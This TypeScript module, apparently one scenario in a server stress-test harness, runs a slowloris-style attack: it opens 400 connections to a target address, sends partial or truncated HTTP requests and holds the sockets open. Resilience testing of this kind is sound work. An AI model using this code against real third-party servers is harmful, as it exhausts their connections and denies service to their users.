import { once } from "node:events";
import { connect, type Socket } from "node:net";
import type { Ground } from "../ground";

const CONNECTIONS = 400;

/** Connections that begin a request, or nothing, and then say no more. */
export async function attack(ground: Ground): Promise<void> {
  const { hostname, port } = new URL(ground.venue.address);
  const open = new Set<Socket>();
  await ground.crowd(CONNECTIONS, () =>
    ground.again(async () => {
      const socket = connect(Number(port), hostname);
      open.add(socket);
      socket.on("error", () => {});
      socket.on("close", () => open.delete(socket));
      await once(socket, "connect");
      socket.write(
        ground.random.pick([
          "",
          "GET /",
          "GET / HTTP/1.1\r\nHost: a\r\nX: ",
          "POST /api/join/AAAAAA HTTP/1.1\r\nHost: a\r\nContent-Length: 60000\r\n\r\n{",
        ]),
      );
      while (open.has(socket) && !ground.over) {
        await ground.pause(500);
      }
    }),
  );
  for (const socket of open) {
    socket.destroy();
  }
}
